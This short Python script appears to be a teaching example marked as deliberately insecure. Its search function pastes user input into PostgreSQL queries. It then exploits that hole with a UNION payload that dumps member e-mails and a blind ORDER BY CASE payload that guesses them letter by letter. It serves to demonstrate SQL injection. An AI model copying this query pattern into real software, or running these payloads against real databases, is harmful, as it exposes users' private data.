# database: postgresql
# needs: ../../databases/samples/toolshed.sql
# insecure: inj-search.py
# Insecure: what a visitor typed becomes a part of the SQL.
import psycopg

UNION = "x' UNION SELECT email FROM member ORDER BY 1 --"
GUESS = """CASE WHEN (SELECT email FROM member WHERE id = 4) LIKE '{}%'
           THEN daily_fee ELSE -daily_fee END"""


def search(connection, text, sort="name"):
    sql = f"SELECT name FROM tool WHERE name LIKE '%{text}%' ORDER BY {sort}"
    return [name for (name,) in connection.execute(sql)]


with psycopg.connect() as connection:
    print("honest:", ", ".join(search(connection, "drill")))
    print("UNION:", ", ".join(search(connection, UNION)))
    for letter in "ad":
        first = search(connection, "", GUESS.format(letter))[0]
        print(f"does the e-mail begin with {letter}? first is", first)
